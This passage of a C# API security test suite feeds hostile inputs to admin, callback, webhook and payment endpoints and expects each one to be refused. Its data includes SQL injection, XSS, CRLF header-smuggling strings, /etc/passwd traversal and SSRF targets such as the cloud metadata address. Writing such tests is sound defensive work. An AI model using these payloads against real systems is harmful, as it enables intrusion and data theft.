            ("POST admin key", "name", "Name"), ("POST top-up approve", "note", "Note"), ("POST top-up reject", "note", "Note"),
            ("POST wallet credit", "note", "Note"), ("POST wallet debit", "note", "Note"), ("POST reseller top-up", "customer_name", "CustomerName"),
        ];
        foreach (var (endpoint, json, property) in textFields)
        {
            var e = Admin(endpoint);
            foreach (var (name, value) in ControlCharacterValues.Take(5))
            {
                cases.Add(new($"admin {e.Name} | {name} in {json}", e.Method, e.Path, Bodies.Json(WithProperty(e.Body, json, "Hostile" + value + "x")),
                    Problem(400, Validation, property), AsAdmin: true));
            }
        }
        cases.Add(new("admin POST resellers | name of 201 characters", HttpMethod.Post, "/admin/v1/resellers",
            Bodies.Json(WithProperty(Admin("POST resellers").Body, "name", new string('n', 201))), Problem(400, Validation, "Name"), AsAdmin: true));
        cases.Add(new("admin POST resellers | name of spaces only", HttpMethod.Post, "/admin/v1/resellers",
            Bodies.Json(WithProperty(Admin("POST resellers").Body, "name", " \u00a0\u3000 ")), Problem(400, Validation, "Name"), AsAdmin: true));

        // Regular expressions anchored at the very end: a trailing newline is not a match.
        (string Endpoint, string Json, string Property, object Value)[] edges =
        [
            ("POST services", "module_fields", "ModuleFields[0]", new[] { "meter_number\n" }),
            ("POST services", "module_fields", "ModuleFields[0]", new[] { "meter\u00a0number" }),
            ("PATCH service", "module_fields", "ModuleFields[0]", new[] { "meter_number\n" }),
            ("PATCH operator", "prefixes", "Prefixes[0]", new[] { "017\n" }),
            ("PATCH operator", "prefixes", "Prefixes[0]", new[] { "\u09e6\u09e7\u09ed" }),
            ("PATCH operator", "prefixes", "Prefixes[0]", new[] { "\uff10\uff11\uff17" }),
            ("POST reseller top-up", "customer_phone", "CustomerPhone", "01711111111\n"),
            ("POST reseller top-up", "customer_phone", "CustomerPhone", "\u09e6\u09e7\u09ed\u09e7\u09e7\u09e7\u09e7\u09e7\u09e7\u09e7\u09e7"),
            ("POST reseller top-up", "return_url", "ReturnUrl", "https://shop.example.test/\n"),
            ("POST reseller top-up", "return_url", "ReturnUrl", "javascript:alert(1)"),
            ("POST reseller top-up", "customer_email", "CustomerEmail", "rahim@shop.example.test\r\nBcc: all@example.test"),
            ("POST reseller top-up", "gateway", "Gateway", "0"),
            ("POST reseller top-up", "gateway", "Gateway", "shurjopay,securesoftpay"),
            ("POST reseller top-up", "gateway", "Gateway", "\u017fhurjopay"),
        ];
        foreach (var (endpoint, json, property, value) in edges)
        {
            var e = Admin(endpoint);
            var shown = value is string[] list ? string.Join(",", list) : (string)value;
            cases.Add(new($"admin {e.Name} | {json} {Bodies.Show(shown)}", e.Method, e.Path, Bodies.Json(WithProperty(e.Body, json, value)),
                Problem(400, Validation, property), AsAdmin: true));
        }

        // Route values are only looked up (a 404 may name the value, JSON-escaped, to the operator).
        foreach (var injection in Injections.Take(5))
        {
            var encoded = Uri.EscapeDataString(injection);
            cases.Add(new($"admin POST order complete | order {Bodies.Show(injection)}", HttpMethod.Post, $"/admin/v1/orders/{encoded}/complete",
                Bodies.Json("""{"token_number":"T1"}"""), Problem(404, "Order not found"), AsAdmin: true));
            cases.Add(new($"admin POST top-up approve | top-up {Bodies.Show(injection)}", HttpMethod.Post, $"/admin/v1/topups/{encoded}/approve",
                Bodies.Json("""{"note":"n"}"""), Problem(404, "Top-up not found"), AsAdmin: true));
            cases.Add(new($"admin PATCH operator | code {Bodies.Show(injection)}", Patch, $"/admin/v1/operators/{encoded}",
                Bodies.Json("""{"name":"x"}"""), Problem(404, "Operator not found"), AsAdmin: true));
        }
        cases.Add(new("admin PATCH operator | code with CRLF", Patch, "/admin/v1/operators/GP%0D%0ASet-Cookie:%20hostile=1",
            Bodies.Json("""{"name":"x"}"""), Problem(400, Validation, "code"), AsAdmin: true));
    }

    // ---- enums from outside: names only, in bodies and query strings ----
    private static void AddAdminEnumAndQueryCases(List<HostileCase> cases)
    {
        string[] statusForms = ["7", "1", "0", "-1", "1e0", "0x1", "active,suspended", "suspended, active", " active", "active ", "\u017fuspended", "ACT\u0130VE", "activ", ""];
        foreach (var status in statusForms)
        {
            cases.Add(new($"admin PATCH reseller | status {Bodies.Show(status)}", Patch, "/admin/v1/resellers/$RESELLER",
                Bodies.Json(JsonSerializer.Serialize(new { status })), Problem(400, Validation, "Status"), AsAdmin: true));
        }
        foreach (var status in new[] { "5", "1", "0", "active,inactive", "\u0130nactive", "inactive\u00a0" })
        {
            cases.Add(new($"admin POST providers | status {Bodies.Show(status)}", HttpMethod.Post, "/admin/v1/providers",
                Bodies.Json(WithProperty(Admin("POST providers").Body, "status", status)), Problem(400, Validation, "Status"), AsAdmin: true));
            cases.Add(new($"admin PATCH provider | status {Bodies.Show(status)}", Patch, "/admin/v1/providers/$PROVIDER",
                Bodies.Json(JsonSerializer.Serialize(new { status })), Problem(400, Validation, "Status"), AsAdmin: true));
            cases.Add(new($"admin POST services | status {Bodies.Show(status)}", HttpMethod.Post, "/admin/v1/providers/$PROVIDER/services",
                Bodies.Json(WithProperty(Admin("POST services").Body, "status", status)), Problem(400, Validation, "Status"), AsAdmin: true));
            cases.Add(new($"admin PATCH service | status {Bodies.Show(status)}", Patch, "/admin/v1/services/$SERVICE",
                Bodies.Json(JsonSerializer.Serialize(new { status })), Problem(400, Validation, "Status"), AsAdmin: true));
        }
        foreach (var type in new[] { "0", "1", "percent,fixed", "PERCENT\u00a0" })
        {
            cases.Add(new($"admin PATCH operator | prepaid_commission_type {Bodies.Show(type)}", Patch, "/admin/v1/operators/GP",
                Bodies.Json(JsonSerializer.Serialize(new { prepaid_commission_type = type })), Problem(400, Validation, "PrepaidCommissionType"), AsAdmin: true));
            cases.Add(new($"admin PATCH operator | postpaid_commission_type {Bodies.Show(type)}", Patch, "/admin/v1/operators/GP",
                Bodies.Json(JsonSerializer.Serialize(new { postpaid_commission_type = type })), Problem(400, Validation, "PostpaidCommissionType"), AsAdmin: true));
            cases.Add(new($"admin POST cashback offer | type {Bodies.Show(type)}", HttpMethod.Post, "/admin/v1/cashback-offers",
                Bodies.Json(WithProperty(Admin("POST cashback offer").Body, "type", type)), Problem(400, Validation, "Type"), AsAdmin: true));
        }
        foreach (var gateway in new[] { "0", "1", "shurjopay,securesoftpay", "%C5%BFhurjopay" })
        {
            cases.Add(new($"admin PUT funding gateway | {Bodies.Show(gateway)}", HttpMethod.Put, $"/admin/v1/funding-gateways/{gateway}",
                Bodies.Json(Admin("PUT funding gateway").Body), Problem(404, "Gateway not found"), AsAdmin: true));
        }

        (string Path, string Title)[] queries =
        [
            ("/admin/v1/orders?status=1", "Invalid status"), ("/admin/v1/orders?status=0", "Invalid status"),
            ("/admin/v1/orders?status=Processing,Success", "Invalid status"), ("/admin/v1/orders?status=%20Processing", "Invalid status"),
            ("/admin/v1/topups?status=1", "Invalid status"), ("/admin/v1/topups?status=7", "Invalid status"), ("/admin/v1/topups?status=99", "Invalid status"),
            ("/admin/v1/topups?status=Review,Completed", "Invalid status"), ("/admin/v1/topups?gateway=0", "Invalid gateway"),
            ("/admin/v1/topups?gateway=shurjopay%C2%A0", "Invalid gateway"),
            ("/admin/v1/connectors/iak/products?status=0", "Invalid status"), ("/admin/v1/connectors/iak/products?status=1", "Invalid status"),
            ("/admin/v1/connectors/iak/products?status=active,inactive", "Invalid status"),
            ("/admin/v1/recharges?status=1", "Invalid status"), ("/admin/v1/recharges?status=Processing,Failed", "Invalid status"),
            ("/admin/v1/orders?limit=abc", "Invalid parameter"), ("/admin/v1/orders?reseller_id=1e3", "Invalid parameter"),
            ("/admin/v1/orders?reseller_id=%D9%A1", "Invalid parameter"), ("/admin/v1/recharges?flagged=maybe", "Invalid parameter"),
            ("/admin/v1/topups?reseller_id=1%20OR%201=1", "Invalid parameter"), ("/admin/v1/audit-log?limit=99999999999", "Invalid parameter"),
        ];
        foreach (var (path, title) in queries)
        {
            cases.Add(new($"admin GET {path}", HttpMethod.Get, path, Bodies.None, Problem(400, title), AsAdmin: true));
        }
        // Control characters in a route or query value are refused before any lookup (PostgreSQL refuses a NUL outright).
        foreach (var (path, key) in new[]
                 {
                     ("/admin/v1/orders?status=Processing%0A", "status"), ("/admin/v1/recharges?phone=017%00", "phone"),
                     ("/admin/v1/connectors/iak/products?type=pln%00", "type"), ("/admin/v1/orders/TST-%0A", "orderNumber"),
                     ("/admin/v1/topups/TU%0D%0A", "topUpId"), ("/admin/v1/topups?gateway=shurjopay%0A", "gateway"),
                 })
        {
            cases.Add(new($"admin GET {path}", HttpMethod.Get, path, Bodies.None, Problem(400, Validation, key), AsAdmin: true));
        }
        foreach (var (path, key, body) in new[]
                 {
                     ("/admin/v1/orders/TST-%0D%0A/complete", "orderNumber", """{"token_number":"T1"}"""),
                     ("/admin/v1/recharges/TST-%1B/fail", "orderNumber", """{"reason":"r"}"""),
                     ("/admin/v1/topups/TU%7F/approve", "topUpId", """{"note":"n"}"""),
                     ("/admin/v1/connectors/iak/products/PLN%0A/services", "code", """{"provider_id":1,"module_fields":["meter_number"],"min_amount":10,"max_amount":100}"""),
                 })
        {
            cases.Add(new($"admin POST {path}", HttpMethod.Post, path, Bodies.Json(body), Problem(400, Validation, key), AsAdmin: true));
        }
        cases.Add(new("admin PATCH /admin/v1/operators/GP%C2%85", Patch, "/admin/v1/operators/GP%C2%85", Bodies.Json("""{"name":"x"}"""),
            Problem(400, Validation, "code"), AsAdmin: true));
    }

    // ---- callbacks.php: ids, events, URLs, event ids and times ----
    private static void AddCallbackCases(List<HostileCase> cases)
    {
        const string invalidId = "Invalid callback_id.";
        string[] idForms = ["$CALLBACK\u00a0", "\u00a0$CALLBACK", "$CALLBACK\u3000", "+$CALLBACK", "-$CALLBACK", "$CALLBACK.0", "$CALLBACKe0",
            "0x$CALLBACK", "$CALLBACK,$CALLBACK", "\uff11", "\u0661", "\u09e7", "99999999999999999999", "1 OR 1=1"];
        foreach (var e in CallbackIdEndpoints)
        {
            foreach (var id in idForms.Concat(Injections.Take(4)))
            {
                cases.Add(new($"{e.Name} | callback_id {Bodies.Show(id)}", HttpMethod.Post, e.Path, Bodies.UrlEncoded(e.With("callback_id", id)),
                    Json(422, invalidId, "callback_id"), NotEchoed: Injections.Contains(id) ? id : null));
            }
            // Another reseller's endpoint is not there for this one, no more than one that never existed.
            foreach (var id in new[] { "$OTHER_CALLBACK", "0", "999999999" })
            {
                cases.Add(new($"{e.Name} | callback_id {id}", HttpMethod.Post, e.Path, Bodies.UrlEncoded(e.With("callback_id", id)),
                    Json(404, "Callback not found.")));
            }
            cases.Add(new($"{e.Name} | no callback_id", HttpMethod.Post, e.Path,
                Bodies.UrlEncoded(e.All.Where(f => f.Key != "callback_id")), Json(422, "Missing required parameters.", "callback_id")));
        }

        foreach (var events in new[]
                 {
                     "bill.succeeded\u00a0", "\u00a0bill.succeeded", "bill.succeeded\u3000", "BILL.SUCCEEDED", "Bill.Succeeded", "bill.succeeded,bogus", "bill.*",
                     "0", "1", ",", " , ", "bill.succeeded;wallet.debited", "bill\u2024succeeded", "*\u00a0", "**", "bill.succeede\u0257",
                     string.Join(",", Enumerable.Repeat("wallet.debited", 30)), "' OR '1'='1", "<script>alert(1)</script>",
                 })
        {
            cases.Add(new($"{CallbackCreate.Name} | events {Bodies.Show(events)}", HttpMethod.Post, CallbackCreate.Path,
                Bodies.UrlEncoded(CallbackCreate.With("events", events)), Json(422, "Invalid events.", "events"), NotEchoed: events.Contains('<') ? events : null));
        }
        const string notHttps = "The url must use https.";
        const string notPublic = "The url must not point to a private, loopback, link-local or reserved address.";
        const string notAbsolute = "The url must be an absolute https:// URL of at most 500 characters.";
        foreach (var (url, error) in new (string, string?)[]
                 {
                     ("http://hooks.example.test/a", notHttps), ("ftp://hooks.example.test/a", notHttps), ("HTTP://hooks.example.test/a", notHttps),
                     ("javascript:alert(1)", null), ("data:text/html,<script>alert(1)</script>", null), ("//evil.example/a", null),
                     ("/relative/path", null), ("hooks.example.test/a", null), ("file:///etc/passwd", null),
                     ("https://127.0.0.1/a", notPublic), ("https://10.1.2.3/a", notPublic), ("https://169.254.169.254/latest/meta-data/", notPublic),
                     ("https://192.168.0.1/a", notPublic), ("https://100.64.0.1/a", notPublic), ("https://0.0.0.0/a", notPublic),
                     ("https://[::1]/a", notPublic), ("https://[::ffff:127.0.0.1]/a", notPublic), ("https://[fe80::1]/a", notPublic),
                     ("https://[fd00::1]/a", notPublic), ("https://0x7f000001/a", notPublic), ("https://2130706433/a", notPublic),
                     ("https://0177.0.0.1/a", notPublic), ("https://127.1/a", notPublic), ("https://localhost/a", notPublic),
                     ("https://LOCALHOST/a", notPublic), ("https://localhost./a", notPublic), ("https://hooks.localhost/a", notPublic),
                     ("https://user:pw@hooks.example.test/a", "The url must not carry credentials or a fragment."),
                     ("https://hooks.example.test/a#x", "The url must not carry credentials or a fragment."),
                     ("https://hooks.example.test/a b", notAbsolute), ("https://hooks.example.test/\u00a0x", notAbsolute),
                     ("https://hooks.example.test/\u2028", notAbsolute), ("https://" + new string('h', 500) + ".test/", notAbsolute),
                 })
        {
            cases.Add(new($"{CallbackCreate.Name} | url {Bodies.Show(url)}", HttpMethod.Post, CallbackCreate.Path,
                Bodies.UrlEncoded(CallbackCreate.With("url", url)), Json(422, error, "url"), NotEchoed: url.Contains('<') ? "<script>" : null));
        }
        cases.Add(new($"{CallbackCreate.Name} | no events", HttpMethod.Post, CallbackCreate.Path,
            Bodies.UrlEncoded(CallbackCreate.All.Where(f => f.Key != "events")), Json(422, "Missing required parameters.", "events")));

        foreach (var eventId in new[]
                 {
                     EventId.ToUpperInvariant(), "EVT_0123456789abcdef0123456789abcdef", EventId[..^1], EventId + "0", EventId[..^1] + "g", EventId + "\u00a0",
                     "\u00a0" + EventId, EventId[..^1] + "\uff10", $"{EventId},{EventId}", "evt_*", "' OR '1'='1",
                 })
        {
            cases.Add(new($"{CallbackRedeliver.Name} | event_id {Bodies.Show(eventId)}", HttpMethod.Post, CallbackRedeliver.Path,
                Bodies.UrlEncoded(CallbackRedeliver.With("event_id", eventId)), Json(422, "Invalid event_id.", "event_id")));
        }
        (string, string)[] bySince = [("api_key", "$API_KEY"), ("api_secret", "$API_SECRET"), ("callback_id", "$CALLBACK")];
        foreach (var since in new[]
                 {
                     "2026-13-01 00:00:00", "2026-04-31", "2026-04-01 25:00:00", "yesterday", "2026-04-01T00:00:00+06:00", "2026-04-01 00:00:00 OR 1=1",
                     "\u0662\u0660\u0662\u0666-\u0660\u0664-\u0660\u0661", "\uff12\uff10\uff12\uff16-\uff10\uff14-\uff10\uff11", "2026-04-01\u00a0",
                     "\u00a02026-04-01", "2026-4-1", "20260401", "0", "1e9", "-2026-04-01", "+2026-04-01", "9999-99-99",
                 })
        {
            cases.Add(new($"{CallbackRedeliver.Name} | since {Bodies.Show(since)}", HttpMethod.Post, CallbackRedeliver.Path,
                Bodies.UrlEncoded([.. bySince, ("since", since)]), Json(422, "Invalid since (use yyyy-MM-dd HH:mm:ss, UTC).", "since")));
        }
        cases.Add(new($"{CallbackRedeliver.Name} | neither event_id nor since", HttpMethod.Post, CallbackRedeliver.Path, Bodies.UrlEncoded(bySince),
            Json(422, "Missing required parameters.", "event_id")));

        foreach (var action in new[] { "callback_create' OR 1=1", "<script>alert(1)</script>", "callback_list\r\nSet-Cookie: hostile=1", "CALLBACK_LIST",
                     "callback_list ", "callback_*", "callback_list,callback_delete", "../wallet" })
        {
            cases.Add(new($"callbacks action={Bodies.Show(action)}", HttpMethod.Post, $"/api/callbacks.php?action={Uri.EscapeDataString(action)}",
                Bodies.UrlEncoded(CallbackCreate.All), Json(400, "Invalid action."), NotEchoed: action.Length > 14 ? action : null));
        }
        cases.Add(new("callbacks no action", HttpMethod.Post, "/api/callbacks.php", Bodies.UrlEncoded(CallbackCreate.All), Json(400, "Invalid action.")));
    }

    // ---- admin API: webhook endpoints, API keys (limits, expiry, IP allowlists) and statement exports ----
    private static void AddAdminWebhookKeyAndStatementCases(List<HostileCase> cases)
    {
        (string Endpoint, string Json, string Property, object? Value)[] invalid =
        [
            ("POST reseller webhook", "url", "Url", null),
            ("POST reseller webhook", "url", "Url", ""),
            ("POST reseller webhook", "url", "Url", "https://hooks.example.test/" + new string('a', 500)),
            ("POST reseller webhook", "events", "Events", Array.Empty<string>()),
            ("POST reseller webhook", "events", "Events", new[] { "bill.succeeded\u00a0" }),
            ("POST reseller webhook", "events", "Events", new[] { "BILL.SUCCEEDED" }),
            ("POST reseller webhook", "events", "Events", new[] { "bill.succeeded,wallet.debited" }),
            ("POST reseller webhook", "events", "Events", new[] { "0" }),
            ("POST reseller webhook", "events", "Events", new string?[] { null }),
            ("POST reseller webhook", "events", "Events", Enumerable.Repeat("wallet.debited", 21).ToArray()),
            ("POST reseller webhook", "events", "Events", null),
            ("POST webhook redeliver-failed", "since", "Since", "0001-01-01T00:00:00"),
            ("POST api key", "expires_at", "ExpiresAt", "2001-01-01T00:00:00Z"),
            ("PATCH api key", "expires_at", "ExpiresAt", "2001-01-01T00:00:00Z"),
        ];
        foreach (var (endpoint, json, property, value) in invalid)
        {
            var e = Admin(endpoint);
            var shown = value is string text ? text : JsonSerializer.Serialize(value);
            cases.Add(new($"admin {e.Name} | {json} {Bodies.Show(shown)}", e.Method, e.Path, Bodies.Json(WithProperty(e.Body, json, value)),
                Problem(400, Validation, property), AsAdmin: true));
        }
        foreach (var e in new[] { Admin("POST api key"), Admin("PATCH api key") })
        {
            foreach (var (json, property, value) in new (string, string, object)[]
                     {
                         ("requests_per_second", "RequestsPerSecond", 0), ("requests_per_second", "RequestsPerSecond", -1), ("burst", "Burst", 100_001),
                         ("requests_per_minute", "RequestsPerMinute", 0), ("requests_per_minute", "RequestsPerMinute", 6_000_001),
                         ("allowed_ips", "AllowedIps", Enumerable.Range(1, 51).Select(i => $"203.0.113.{i}").ToArray()),
                     })
            {
                cases.Add(new($"admin {e.Name} | {json} {(value is string[] list ? $"{list.Length} entries" : value)}", e.Method, e.Path,
                    Bodies.Json(WithProperty(e.Body, json, value)), Problem(400, Validation, property), AsAdmin: true));
            }
            foreach (var entry in new[]
                     {
                         "10.0.0.1\n", "10.0.0.1\u00a0", "\u00a010.0.0.1", "\u0661\u0660.\u0660.\u0660.\u0661", "\uff11\uff10.0.0.1", "10.0.0.1/8", "10.1", "167772161",
                         "0x0a.0.0.1", "010.0.0.1", "10.0.0.1/33", "10.0.0.0/-1", "10.0.0.0/+8", "10.0.0.0/8/8", "fe80::1%eth0", "::ffff:10.0.0.0/24", "localhost",
                         "*", "0.0.0.0/0 OR 1=1", "", new string('1', 5000), "<script>alert(1)</script>",
                     })
            {
                cases.Add(new($"admin {e.Name} | allowed_ips entry {Bodies.Show(entry)}", e.Method, e.Path,
                    Bodies.Json(WithProperty(e.Body, "allowed_ips", new[] { "203.0.113.7", entry })), Problem(400, Validation, "AllowedIps[1]"),
                    AsAdmin: true));
            }
        }
        cases.Add(new("admin PATCH api key | default_limits with a limit", Patch, Admin("PATCH api key").Path,
            Bodies.Json("""{"default_limits":true,"burst":5}"""), Problem(400, Validation, "DefaultLimits"), AsAdmin: true));

        // Wrong JSON types: refused while the body is read.
        (string Endpoint, string Json, string Value)[] wrongTypes =
        [
            ("POST reseller webhook", "url", "5"), ("POST reseller webhook", "url", "[\"https://hooks.example.test/a\"]"),
            ("POST reseller webhook", "events", "\"bill.succeeded\""), ("POST reseller webhook", "events", "{\"0\":\"bill.succeeded\"}"),
            ("POST reseller webhook", "events", "[1]"), ("POST webhook redeliver-failed", "since", "\"yesterday\""),
            ("POST webhook redeliver-failed", "since", "\"2026-13-01T00:00:00Z\""), ("POST webhook redeliver-failed", "since", "1767225600"),
            ("POST webhook redeliver-failed", "since", "null"), ("POST webhook redeliver-failed", "since", "\"\u0662\u0660\u0662\u0666-01-01\""),
            ("POST api key", "requests_per_second", "5.5"), ("POST api key", "requests_per_second", "1e10"), ("POST api key", "requests_per_second", "true"),
            ("POST api key", "requests_per_second", "99999999999999999999"), ("POST api key", "burst", "\"five\""), ("POST api key", "allowed_ips", "\"203.0.113.7\""),
            ("POST api key", "allowed_ips", "[1]"), ("POST api key", "allowed_ips", "{\"$ne\":1}"), ("POST api key", "expires_at", "\"tomorrow\""),
            ("POST api key", "expires_at", "4102444800"), ("POST api key", "expires_at", "\"2099-13-01T00:00:00Z\""),
            ("PATCH api key", "expires_at", "\"never\""), ("PATCH api key", "expires_at", "[]"), ("PATCH api key", "default_limits", "\"yes\""),
            ("PATCH api key", "default_limits", "1"), ("PATCH api key", "requests_per_minute", "-1e3"),
        ];
        foreach (var (endpoint, json, value) in wrongTypes)
        {
            var e = Admin(endpoint);
            var body = System.Text.Json.Nodes.JsonNode.Parse(e.Body.Replace("$PROVIDER", "1"))!.AsObject();
            body.Remove(json);
            var text = body.ToJsonString();
            cases.Add(new($"admin {e.Name} | {json} {Bodies.Show(value)}", e.Method, e.Path,
                Bodies.Json(text[..^1] + (body.Count > 0 ? "," : "") + $"\"{json}\":{value}}}"), Problem(400, NotJson), AsAdmin: true));
        }

        // Route values: another reseller's key, an unknown endpoint or event, control characters.
        cases.Add(new("admin PATCH api key | another reseller's key", Patch, "/admin/v1/resellers/$OTHER_RESELLER/api-keys/$API_KEY_ID",
            Bodies.Json("""{"burst":5}"""), Problem(404, "API key not found"), AsAdmin: true));
        cases.Add(new("admin DELETE api key | another reseller's key", HttpMethod.Delete, "/admin/v1/resellers/$OTHER_RESELLER/api-keys/$API_KEY_ID",
            Bodies.None, Problem(404, "API key not found"), AsAdmin: true));
        cases.Add(new("admin POST api key | unknown reseller", HttpMethod.Post, "/admin/v1/resellers/999999/api-keys",
            Bodies.Json("{}"), Problem(404, "Reseller not found"), AsAdmin: true));
        cases.Add(new("admin POST reseller webhook | unknown reseller", HttpMethod.Post, "/admin/v1/resellers/999999/webhooks",
            Bodies.Json(Admin("POST reseller webhook").Body), Problem(404, "Reseller not found"), AsAdmin: true));
        foreach (var url in new[] { "http://hooks.example.test/a", "https://127.0.0.1/a", "https://[::1]/a", "https://localhost./a", "javascript:alert(1)",
                     "https://hooks.example.test/a\u00a0", "\u3000https://hooks.example.test/a" })
        {
            cases.Add(new($"admin POST reseller webhook | url {Bodies.Show(url)}", HttpMethod.Post, "/admin/v1/resellers/$RESELLER/webhooks",
                Bodies.Json(WithProperty(Admin("POST reseller webhook").Body, "url", url)), Problem(422, "Endpoint refused"), AsAdmin: true));
        }
        foreach (var (method, path) in new[]
                 {
                     (HttpMethod.Post, "/admin/v1/webhooks/999999/enable"), (HttpMethod.Post, "/admin/v1/resellers/$OTHER_RESELLER/webhooks/$CALLBACK/rotate-secret"),
                     (HttpMethod.Delete, "/admin/v1/resellers/$OTHER_RESELLER/webhooks/$CALLBACK"), (HttpMethod.Get, "/admin/v1/webhooks/999999/deliveries"),
                 })
        {
            cases.Add(new($"admin {method} {path}", method, path, Bodies.None, Problem(404, "Webhook endpoint not found"), AsAdmin: true));
        }
        foreach (var injection in Injections.Take(5))
        {
            cases.Add(new($"admin POST webhook redeliver | event {Bodies.Show(injection)}", HttpMethod.Post,
                $"/admin/v1/webhooks/$CALLBACK/deliveries/{Uri.EscapeDataString(injection)}/redeliver", Bodies.None, Problem(404, "Event not found"), AsAdmin: true));
        }
        cases.Add(new("admin POST webhook redeliver | event with CRLF", HttpMethod.Post, "/admin/v1/webhooks/$CALLBACK/deliveries/evt%0D%0A/redeliver",
            Bodies.None, Problem(400, Validation, "eventId"), AsAdmin: true));
        cases.Add(new("admin POST webhook redeliver-failed | no since", HttpMethod.Post, "/admin/v1/webhooks/$CALLBACK/redeliver-failed",
            Bodies.Json("{}"), Problem(400, Validation, "Since"), AsAdmin: true));

        // Deliveries' limit and the statement exports' dates.
        foreach (var limit in new[] { "abc", "99999999999", "1e3", "%D9%A1" })
        {
            cases.Add(new($"admin GET deliveries?limit={limit}", HttpMethod.Get, $"/admin/v1/webhooks/$CALLBACK/deliveries?limit={limit}", Bodies.None,
                Problem(400, "Invalid parameter"), AsAdmin: true));
        }
        string[] ranges =
        [
            "from=2026-13-01&to=2026-12-31", "from=2026-04-31&to=2026-05-01", "from=2026-05-01&to=2026-04-30", "from=2025-01-01&to=2026-12-31",
            "from=2026-04-01", "to=2026-04-01", "", "from=%D9%A2%D9%A0%D9%A2%D9%A6-%D9%A0%D9%A4-%D9%A0%D9%A1&to=2026-04-02",
            "from=2026-04-01%C2%A0&to=2026-04-02", "from=20260401&to=20260402", "from=2026-4-1&to=2026-4-2", "from=9999-12-31&to=9999-12-31",
            "from=0001-01-01&to=0001-01-01", "from=2026-04-01&from=2026-04-02&to=2026-04-03", "from=2026-04-01'%20OR%20'1'='1&to=2026-04-02",
            "from=-2026-04-01&to=2026-04-02",
        ];
        foreach (var range in ranges)
        {
            foreach (var path in new[] { "/admin/v1/resellers/$RESELLER/wallet/statement.csv", "/admin/v1/wallets/statement.csv" })
            {
                cases.Add(new($"admin GET {path}?{range}", HttpMethod.Get, $"{path}?{range}", Bodies.None, Problem(400, "Invalid date range"), AsAdmin: true));
            }
        }
        cases.Add(new("admin GET statement.csv | unknown reseller", HttpMethod.Get, "/admin/v1/resellers/999999/wallet/statement.csv?from=2026-04-01&to=2026-04-02",
            Bodies.None, Problem(404), AsAdmin: true));
        cases.Add(new("admin GET statement.csv | from with a newline", HttpMethod.Get, "/admin/v1/wallets/statement.csv?from=2026-04-01%0A&to=2026-04-02",
            Bodies.None, Problem(400, Validation, "from"), AsAdmin: true));
        cases.Add(new("admin GET statement.csv | no admin key", HttpMethod.Get, "/admin/v1/wallets/statement.csv?from=2026-04-01&to=2026-04-02",
            Bodies.None, Problem(401)));

        // The reseller's own statement: the same dates, the reseller API's answers.
        var statement = new ResellerEndpoint("wallet statement", "/api/wallet.php?action=statement", [("from", "2026-04-01"), ("to", "2026-04-30")], "from");
        foreach (var (from, to, field) in new[]
                 {
                     ("9999-12-31", "9999-12-31", "from"), ("0001-01-01", "0001-01-01", "from"), ("\u0662\u0660\u0662\u0666-\u0660\u0664-\u0660\u0661", "2026-04-02", "from"),
                     ("2026-04-01\u00a0", "2026-04-02", "from"), ("2026-04-01", "2026-02-30", "to"), ("2026-04-01", "+2026-04-02", "to"),
                 })
        {
            cases.Add(new($"{statement.Name} | from {Bodies.Show(from)} to {Bodies.Show(to)}", HttpMethod.Post, statement.Path,
                Bodies.UrlEncoded(statement.With("from", from).Select(f => f.Key == "to" ? (f.Key, to) : f).ToArray()),
                Json(422, $"Invalid {field}. Send a date as YYYY-MM-DD.", field)));
        }
        foreach (var (key, value, error) in new[]
                 {
                     ("page", "0", "Invalid page."), ("page", "-1", "Invalid page."), ("page", "\u0661", "Invalid page."), ("page", "99999999999", "Invalid page."),
                     ("page", "1e3", "Invalid page."), ("per_page", "501", "Invalid per_page. Send 1 to 500."), ("per_page", "01", "Invalid per_page. Send 1 to 500."),
                 })
        {
            cases.Add(new($"{statement.Name} | {key} {Bodies.Show(value)}", HttpMethod.Post, statement.Path, Bodies.UrlEncoded(statement.With(key, value)),
                Json(422, error, key)));
        }
    }

    // ---- the gateways' callbacks and the customer's return pages ----
    private static void AddPaymentPageCases(List<HostileCase> cases)
    {
        string[] references = ["sp-hostile-1%0A", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%27%20OR%201%3D1--", "..%2F..%2Fetc%2Fpasswd", new('a', 65), "",
            "sp-hostile-1%C2%A0", "sp%00x"];
        foreach (var reference in references)
        {
            var shown = Bodies.Show(Uri.UnescapeDataString(reference));
            cases.Add(new($"GET shurjopay return | order_id {shown}", HttpMethod.Get, $"/payments/shurjopay/return?order_id={reference}", Bodies.None,
                new Expected(404, Reply.HtmlPage), NotEchoed: "<script>"));
            cases.Add(new($"GET shurjopay cancel | topup {shown}", HttpMethod.Get, $"/payments/shurjopay/cancel?topup={reference}x", Bodies.None,
                new Expected(404, Reply.HtmlPage), NotEchoed: "<script>"));
            cases.Add(new($"GET securesoftpay cancel | topup {shown}", HttpMethod.Get, $"/payments/securesoftpay/cancel?topup={reference}x", Bodies.None,
                new Expected(404, Reply.HtmlPage), NotEchoed: "<script>"));
            cases.Add(new($"GET securesoftpay return | transaction_id {shown}", HttpMethod.Get,
                $"/payments/securesoftpay/return?topup=$TOPUP&transaction_id={reference}", Bodies.None, new Expected(404, Reply.HtmlPage), NotEchoed: "<script>"));
            cases.Add(new($"GET shurjopay ipn | order_id {shown}", HttpMethod.Get, $"/payments/shurjopay/ipn?order_id={reference}", Bodies.None,
                Json(400, "Missing or invalid order_id."), NotEchoed: "<script>"));
        }
        cases.Add(new("GET shurjopay ipn | unknown order", HttpMethod.Get, "/payments/shurjopay/ipn?order_id=sp-unknown-1", Bodies.None, Json(404, "Unknown order.")));

        const string ipn = "/payments/shurjopay/ipn";
        (string Key, string Value)[] fields = [("order_id", "sp-hostile-1")];
        foreach (var charset in new[] { "utf-7", "bogus", "utf-16" })
        {
            cases.Add(new($"POST shurjopay ipn | charset={charset}", HttpMethod.Post, ipn, Bodies.UrlEncoded(fields, $"{Bodies.Form}; charset={charset}"),
                Json(415, UnsupportedCharset)));
            cases.Add(new($"POST shurjopay ipn | multipart part charset={charset}", HttpMethod.Post, ipn,
                Bodies.Multipart([("order_id", "sp-hostile-1", $"text/plain; charset={charset}")]), Json(415, UnsupportedCharset, "order_id")));
        }
        cases.Add(new("POST shurjopay ipn | 40 KiB body", HttpMethod.Post, ipn, Bodies.UrlEncoded([("order_id", new string('a', 40 * 1024))]), Json(413, TooLarge)));
        cases.Add(new("POST shurjopay ipn | order_id twice", HttpMethod.Post, ipn, Bodies.UrlEncoded([.. fields, .. fields]), Json(422, Duplicate, "order_id")));
